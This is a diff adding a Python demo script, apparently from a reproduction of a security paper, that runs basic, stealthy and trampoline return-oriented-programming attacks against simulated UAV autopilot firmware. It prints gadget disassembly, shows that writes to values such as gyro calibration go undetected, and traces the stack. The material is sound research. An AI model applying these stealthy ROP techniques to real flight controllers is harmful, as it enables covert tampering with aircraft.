@@ -1,0 +1,81 @@
+#!/usr/bin/env python3
+"""The three attack variants side by side (paper §IV), plus Fig. 6.
+
+* V1 — basic ROP: the write lands but the smashed stack kills the board
+  and the ground station sees the link die.
+* V2 — stealthy: same write, clean return, telemetry never blinks.
+* V3 — trampoline: a payload far bigger than the buffer, staged three
+  bytes per clean-return round, then executed — still undetected.
+
+Finishes with the paper's Fig. 6: the stack captured at each stage of the
+stealthy attack.
+
+Run:  python examples/stealthy_attack_demo.py
+"""
+
+from repro.attack import (
+    BasicAttack,
+    GadgetFinder,
+    StealthyAttack,
+    TrampolineAttack,
+    trace_stealthy_attack,
+)
+from repro.asm import disassemble
+from repro.firmware import build_testapp
+from repro.uav import Autopilot
+
+
+def banner(text: str) -> None:
+    print(f"\n{'=' * 64}\n{text}\n{'=' * 64}")
+
+
+def describe(outcome) -> None:
+    print(f"  write landed:          {outcome.succeeded}")
+    print(f"  board status:          {outcome.status.value}")
+    print(f"  telemetry after:       {outcome.telemetry_frames_after} frames")
+    print(f"  ground station alarm:  {outcome.link_lost}")
+    print(f"  verdict:               "
+          f"{'STEALTHY' if outcome.stealthy else 'DETECTED'}")
+
+
+def main() -> None:
+    image = build_testapp()
+
+    banner("gadget inventory (the attacker's static analysis)")
+    finder = GadgetFinder(image)
+    print(f"  gadgets ending in ret: {finder.count()}")
+    stk = finder.find_stk_move()
+    wm = finder.find_write_mem()
+    print(f"\n  Gadget 1: stk_move at 0x{stk.entry:05x} (Fig. 4)")
+    for line in disassemble(image.code, stk.entry, stk.entry + 14):
+        print("   ", line)
+    print(f"\n  Gadget 2: write_mem_gadget at 0x{wm.std_entry:05x} (Fig. 5)")
+    for line in disassemble(image.code, wm.std_entry, wm.std_entry + 16):
+        print("   ", line)
+    print("    ... pop chain continues to r4, then ret")
+
+    banner("V1: basic ROP attack — effective but loud")
+    describe(BasicAttack(image).execute(Autopilot(image), values=b"\x11\x22\x33"))
+
+    banner("V2: stealthy attack — clean return")
+    uav = Autopilot(image)
+    describe(StealthyAttack(image).execute(uav, values=b"\x40\x00\x00"))
+    print(f"  gyro calibration now:  0x{uav.read_variable('gyro_offset'):x}")
+
+    banner("V3: trampoline — arbitrarily large payload")
+    uav3 = Autopilot(image)
+    attack3 = TrampolineAttack(image)
+    rounds = attack3.all_rounds(attack3.demo_payload())
+    print(f"  staging rounds needed: {len(rounds) - 1} "
+          "(each a complete clean-return attack)")
+    describe(attack3.execute(uav3))
+    marker = uav3.cpu.data.read_block(uav3.variable_address("accel_value"), 12)
+    print(f"  18-byte payload planted, marker: {marker!r}")
+
+    banner("Fig. 6: stack progression during the stealthy attack")
+    trace = trace_stealthy_attack(image)
+    print(trace.render())
+
+
+if __name__ == "__main__":
+    main()
